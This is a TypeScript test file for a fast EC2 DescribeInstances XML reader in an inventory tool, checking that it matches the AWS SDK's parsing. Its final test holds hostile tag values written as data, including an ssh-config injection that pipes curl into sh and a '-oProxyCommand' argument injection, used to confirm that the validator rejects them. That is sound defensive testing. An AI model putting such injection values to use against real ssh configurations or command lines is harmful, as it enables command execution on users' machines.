import { DescribeInstancesCommand, EC2Client } from '@aws-sdk/client-ec2';
import { XmlShapeDeserializer } from '@aws-sdk/core/protocols';
import { parseXML } from '@aws-sdk/xml-builder';
import { HttpResponse } from '@smithy/protocol-http';
import { Readable } from 'node:stream';
import { describe, expect, it, vi } from 'vitest';
import { awsXmlBody, fastEc2Protocol, parseAwsXml } from '../../../electron/main/inventory/ec2-xml';
import { INSTANCE_RECORD_PLAN, INSTANCE_RECORD_XML, instanceRecord } from '../../../electron/main/inventory/instance-record';

/** The SDK's own reading of a body (parseXML, then the root and its text nodes), for comparison. */
class SdkReader extends XmlShapeDeserializer {
  constructor() {
    super({ timestampFormat: { useTrait: true, default: 5 }, httpBindings: false, xmlNamespace: 'http://ec2.amazonaws.com/doc/2016-11-15', serviceNamespace: 'com.amazonaws.ec2' });
  }
  body(xml: string): unknown {
    return this.parseXml(xml);
  }
}
const sdk = new SdkReader();

function instanceXml(n: number, indent: string): string {
  const nl = indent ? '\n' : '';
  const pad = (d: number) => (indent ? indent.repeat(d) : '');
  const el = (d: number, tag: string, body: string) => `${pad(d)}<${tag}>${body}</${tag}>${nl}`;
  return (
    `${pad(3)}<item>${nl}` +
    el(4, 'instanceId', `i-0${n.toString(16).padStart(16, '0')}`) +
    el(4, 'imageId', 'ami-0123456789abcdef0') +
    `${pad(4)}<instanceState>${nl}${el(5, 'code', '16')}${el(5, 'name', n % 2 ? 'running' : 'stopped')}${pad(4)}</instanceState>${nl}` +
    el(4, 'privateDnsName', `ip-10-0-0-${n}.ec2.internal`) +
    `${pad(4)}<dnsName/>${nl}` +
    el(4, 'reason', '') +
    el(4, 'instanceType', 't3.micro') +
    el(4, 'launchTime', '2026-11-27T17:45:17.000Z') +
    `${pad(4)}<placement>${nl}${el(5, 'availabilityZone', 'us-east-1a')}${el(5, 'tenancy', 'default')}${pad(4)}</placement>${nl}` +
    el(4, 'subnetId', 'subnet-0123') +
    el(4, 'vpcId', 'vpc-0123') +
    el(4, 'privateIpAddress', `10.0.0.${n}`) +
    (n % 3 ? '' : el(4, 'ipAddress', `54.0.0.${n}`)) +
    `${pad(4)}<groupSet>${nl}${pad(5)}<item>${el(6, 'groupId', 'sg-1')}${el(6, 'groupName', 'default')}${pad(5)}</item>${nl}${pad(4)}</groupSet>${nl}` +
    `${pad(4)}<networkInterfaceSet>${nl}${pad(5)}<item>${nl}${el(6, 'privateIpAddress', `10.0.0.${n}`)}${el(6, 'vpcId', 'vpc-0123')}` +
    `${pad(6)}<ipv6AddressesSet>${nl}${pad(7)}<item>${el(8, 'ipv6Address', `2600:1f18::${n}`)}${pad(7)}</item>${nl}${pad(6)}</ipv6AddressesSet>${nl}${pad(5)}</item>${nl}${pad(4)}</networkInterfaceSet>${nl}` +
    `${pad(4)}<tagSet>${nl}` +
    `${pad(5)}<item>${nl}${el(6, 'key', 'Name')}${el(6, 'value', `web &amp; api &lt;${n}&gt; &#x41;&#66; &quot;q&quot; &apos;a&apos;`)}${pad(5)}</item>${nl}` +
    `${pad(5)}<item>${nl}${el(6, 'key', 'note')}${el(6, 'value', '<![CDATA[raw <b>&amp;</b>]]> tail')}${pad(5)}</item>${nl}` +
    `${pad(5)}<item>${nl}${el(6, 'key', 'env')}${el(6, 'value', 'prod')}${pad(5)}</item>${nl}` +
    `${pad(4)}</tagSet>${nl}` +
    el(4, 'platformDetails', 'Linux/UNIX') +
    `${pad(3)}</item>${nl}`
  );
}

function describeInstancesXml(count: number, indent = '', eol = '\n'): string {
  const nl = indent ? '\n' : '';
  const items = Array.from({ length: count }, (_, n) => instanceXml(n, indent)).join('');
  const xml =
    `<?xml version="1.0" encoding="UTF-8"?>\n<DescribeInstancesResponse xmlns="http://ec2.amazonaws.com/doc/2016-11-15/">${nl}` +
    `${indent}<requestId>8f7724cf-496f-496e-8fe3-example</requestId>${nl}` +
    `${indent}<!-- a comment -->${nl}` +
    `${indent}<reservationSet>${nl}${indent}${indent}<item>${nl}${indent}${indent}${indent}<reservationId>r-1</reservationId>${nl}${indent}${indent}${indent}<ownerId>123456789012</ownerId>${nl}` +
    `${indent}${indent}${indent}<instancesSet>${nl}${items}${indent}${indent}${indent}</instancesSet>${nl}${indent}${indent}</item>${nl}${indent}</reservationSet>${nl}` +
    `${indent}<nextToken>eyJvIjoxMDAwfQ</nextToken>${nl}</DescribeInstancesResponse>`;
  return eol === '\n' ? xml : xml.replace(/\n/g, eol);
}

describe('the fast EC2 XML reader', () => {
  const cases: Array<[string, string]> = [
    ['a compact DescribeInstances page (as the simulator writes it)', describeInstancesXml(25)],
    ['a pretty-printed page (as EC2 writes it)', describeInstancesXml(25, '  ')],
    ['CRLF line endings', describeInstancesXml(3, '\t', '\r\n')],
    ['an EC2 error', '<?xml version="1.0" encoding="UTF-8"?>\n<Response><Errors><Error><Code>UnauthorizedOperation</Code><Message>You are not authorized &amp; denied.</Message></Error></Errors><RequestID>abc</RequestID></Response>'],
    ['attributes, self-closing tags and mixed text', '<!DOCTYPE root [<!ENTITY x "y">]><root a="1" b=\'two &amp; three\'><x k="v"/><y k="v">text</y><z>a<w/>b</z><e></e><s> </s><n>\n  </n></root>'],
    ['repeated children and nested arrays', '<r><item>1</item><item>2</item><item><item>3</item><item>4</item></item><one><item>x</item></one></r>'],
    ['a root with only text', '<r>plain &#169; text</r>'],
    ['processing instructions and comments inside', '<r><?pi x?><a>1</a><!-- c --><a>2</a></r>'],
    ['an unknown entity (decoded to nothing, as the SDK does)', '<r><a>x&nbsp;y</a></r>'],
  ];
  for (const [name, xml] of cases) {
    it(`reads ${name} exactly as the SDK does`, () => {
      expect(parseAwsXml(xml)).toStrictEqual(parseXML(xml));
      expect(awsXmlBody(xml)).toStrictEqual(sdk.body(xml));
    });
  }

  it('refuses broken XML with the SDK’s words', () => {
    for (const bad of ['<r><a>1</b></r>', '<r><a>1</a>', '<r><!-- open', '<r a="1"', 'text only', '']) {
      let theirs = '';
      try {
        parseXML(bad);
      } catch (e) {
        theirs = (e as Error).message;
      }
      if (bad === '') {
        expect(awsXmlBody(bad)).toStrictEqual({});
        continue;
      }
      expect(theirs).not.toBe('');
      expect(() => parseAwsXml(bad)).toThrow(theirs);
    }
  });

  it('gives an EC2Client the same DescribeInstances output, dates and tags included', async () => {
    const body = describeInstancesXml(40, '  ');
    const answer = {
      handle: async () => ({ response: new HttpResponse({ statusCode: 200, headers: { 'content-type': 'text/xml' }, body: Readable.from([Buffer.from(body)]) }) }),
    };
    const fastProtocol = await fastEc2Protocol();
    const client = (fast: boolean) =>
      new EC2Client({
        region: 'us-east-1',
        endpoint: 'http://127.0.0.1:9',
        credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' },
        requestHandler: answer,
        ...(fast ? { protocol: fastProtocol } : {}),
      });
    const strip = ({ $metadata: _m, ...rest }: { $metadata: unknown } & Record<string, unknown>) => rest;
    const theirs = strip({ ...(await client(false).send(new DescribeInstancesCommand({}))) });
    const ours = strip({ ...(await client(true).send(new DescribeInstancesCommand({}))) });
    expect(ours).toStrictEqual(theirs);
    const first = (ours.Reservations as Array<{ Instances: Array<{ LaunchTime: Date; Tags: Array<{ Key: string; Value: string }> }> }>)[0]!.Instances[0]!;
    expect(first.LaunchTime).toBeInstanceOf(Date);
    expect(first.Tags[0]).toEqual({ Key: 'Name', Value: 'web & api <0> AB "q" \'a\'' });
    expect(first.Tags[1]!.Value).toBe('raw <b>&amp;</b> tail');
  });

  it('with a projection, skips what the inventory does not read and still makes the same rows', async () => {
    const body = describeInstancesXml(30, '  ');
    const answer = {
      handle: async () => ({ response: new HttpResponse({ statusCode: 200, headers: { 'content-type': 'text/xml' }, body: Readable.from([Buffer.from(body)]) }) }),
    };
    const projection = await fastEc2Protocol(INSTANCE_RECORD_XML);
    const client = (projected: boolean) =>
      new EC2Client({
        region: 'us-east-1',
        endpoint: 'http://127.0.0.1:9',
        credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' },
        requestHandler: answer,
        ...(projected ? { protocol: projection } : {}),
      });
    const rows = async (projected: boolean) => {
      const out = await client(projected).send(new DescribeInstancesCommand({}));
      const r = out.Reservations![0]!;
      return { next: out.NextToken, owner: r.OwnerId, rows: r.Instances!.map((i) => instanceRecord('p', r.OwnerId!, 'us-east-1', i, [])) };
    };
    const full = await rows(false);
    const projected = await rows(true);
    expect(projected).toStrictEqual(full);
    expect(projected.rows).toHaveLength(30);
    expect(projected.rows[0]).toMatchObject({ id: 'i-00000000000000000', state: 'stopped', az: 'us-east-1a', privateIp: '10.0.0.0', publicIp: '54.0.0.0', platform: 'Linux/UNIX' });
    // What it left out really is gone (network interfaces, security groups).
    const raw = await client(true).send(new DescribeInstancesCommand({}));
    expect(raw.Reservations![0]!.Instances![0]!.NetworkInterfaces).toBeUndefined();
    expect(raw.Reservations![0]!.Instances![0]!.SecurityGroups).toBeUndefined();
  });

  it('with a read plan, reads a page straight into the same output, and anything unusual the general way', async () => {
    // Without the comment and the CDATA the plan covers the whole page; with them it falls back.
    const plain = (xml: string) => xml.replace(/<!-- a comment -->/g, '').replace(/<!\[CDATA\[raw <b>&amp;<\/b>\]\]> tail/g, 'raw &lt;b&gt; tail');
    const pages: Array<[string, string, boolean]> = [
      ['compact', plain(describeInstancesXml(30)), true],
      ['pretty-printed', plain(describeInstancesXml(30, '  ')), true],
      ['CRLF', plain(describeInstancesXml(5, '\t', '\r\n')), true],
      ['with a comment and CDATA', describeInstancesXml(30, '  '), false],
      ['with a namesake nested in a skipped element', plain(describeInstancesXml(3)).replace('<dnsName/>', '<dnsName><dnsName>x</dnsName></dnsName>'), false],
      ['with an attribute', plain(describeInstancesXml(3)).replace('<vpcId>', '<vpcId a="1">'), false],
    ];
    for (const [name, body, planned] of pages) {
      const answer = {
        handle: async () => ({ response: new HttpResponse({ statusCode: 200, headers: { 'content-type': 'text/xml' }, body: Readable.from([Buffer.from(body)]) }) }),
      };
      const client = async (reading: Parameters<typeof fastEc2Protocol>[0]) =>
        new EC2Client({ region: 'us-east-1', endpoint: 'http://127.0.0.1:9', credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' }, requestHandler: answer, protocol: await fastEc2Protocol(reading) });
      const projectedOnly = await client(INSTANCE_RECORD_XML);
      const withPlan = await client({ projection: INSTANCE_RECORD_XML, plans: INSTANCE_RECORD_PLAN });
      const general = vi.spyOn((withPlan.config.protocol as unknown as { deserializer: { parseXml(x: string): unknown } }).deserializer, 'parseXml');
      const { $metadata: _a, ...theirs } = await projectedOnly.send(new DescribeInstancesCommand({}));
      const { $metadata: _b, ...ours } = await withPlan.send(new DescribeInstancesCommand({}));
      expect(ours, name).toStrictEqual(theirs);
      expect(general.mock.calls.length, `${name}: read the general way`).toBe(planned ? 0 : 1);
      const first = ours.Reservations![0]!.Instances![0]!;
      expect(first.LaunchTime, name).toBeInstanceOf(Date);
      expect(first.Tags![0]!.Value, name).toBe("web & api <0> AB \"q\" 'a'");
      expect(ours.NextToken, name).toBe('eyJvIjoxMDAwfQ');
    }
  });

  it('skips a left-out element with namesakes nested in it, and never projects an error response', () => {
    const keep = new Map([['root', new Set(['keep', 'item'])]]);
    const xml = '<root><drop><drop>x</drop><drop/><drop a="1"><drop>y</drop></drop></drop><keep>1</keep><drop k="v"/><item><drop>z</drop><keep>2</keep></item></root>';
    expect(parseAwsXml(xml, keep)).toStrictEqual({ root: { keep: '1', item: { keep: '2' } } });
    const error = '<Response><Errors><Error><Code>RequestLimitExceeded</Code><Message>Slow down</Message></Error></Errors><RequestID>r</RequestID></Response>';
    expect(awsXmlBody(error, new Map([['DescribeInstancesResponse', new Set(['item'])]]))).toStrictEqual(sdk.body(error));
  });

  it('decodes character references above U+FFFF (emoji) whole, and an invalid one as U+FFFD', () => {
    expect(awsXmlBody('<r><a>go &#x1F680; &#128640;!</a><b>&#xD800;|&#x110000;|&#0;|&#x9;</b></r>')).toStrictEqual({ a: 'go 🚀 🚀!', b: '\uFFFD|\uFFFD|\uFFFD|\t' });
  });

  it('keeps tag keys such as __proto__ and constructor, and emoji references, from a planned page to the row', async () => {
    const tag = (k: string, v: string) => `<item><key>${k}</key><value>${v}</value></item>`;
    const body = describeInstancesXml(1).replace(/<tagSet>[\s\S]*?<\/tagSet>/, `<tagSet>${tag('Name', 'rocket &#x1F680;')}${tag('__proto__', 'proto-value')}${tag('constructor', 'ctor-value')}${tag('toString', '&#128640;')}</tagSet>`);
    const answer = {
      handle: async () => ({ response: new HttpResponse({ statusCode: 200, headers: { 'content-type': 'text/xml' }, body: Readable.from([Buffer.from(body)]) }) }),
    };
    const client = new EC2Client({
      region: 'us-east-1', endpoint: 'http://127.0.0.1:9', credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'secret' }, requestHandler: answer,
      protocol: await fastEc2Protocol({ projection: INSTANCE_RECORD_XML, plans: INSTANCE_RECORD_PLAN }),
    });
    const out = await client.send(new DescribeInstancesCommand({}));
    const row = instanceRecord('p', '123456789012', 'us-east-1', out.Reservations![0]!.Instances![0]!, [])!;
    expect(row.name).toBe('rocket 🚀');
    expect(Object.entries(row.tags)).toEqual([['Name', 'rocket 🚀'], ['__proto__', 'proto-value'], ['constructor', 'ctor-value'], ['toString', '🚀']]);
    // Sent as JSON (the harness, the cache file) and read back, the keys are still there.
    expect(Object.entries(JSON.parse(JSON.stringify(row)).tags)).toEqual(Object.entries(row.tags));
  });
});

describe("an instance's keyless:os-user tag", () => {
  const row = (value: string) =>
    instanceRecord('p', '123456789012', 'us-east-1', { InstanceId: 'i-0123456789abcdef0', PlatformDetails: 'Linux/UNIX', Tags: [{ Key: 'keyless:os-user', Value: value }, { Key: 'ami-name', Value: 'ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server' }] }, [])!;

  it('names the OS user when it is a user name', () => {
    expect(row('deploy').defaultUser).toBe('deploy');
  });

  it('is not used when it is no user name (anyone allowed to tag could set it): the image decides', () => {
    // The value would reach the Host blocks `keyless ssh-config` prints, SendSSHPublicKey and ssh's command line.
    for (const hostile of ['ec2-user\nMatch exec "curl x|sh"', 'root --', '-oProxyCommand=x', 'a b', '', 'x'.repeat(33)]) {
      expect(row(hostile).defaultUser).toBe('ubuntu');
    }
  });
});
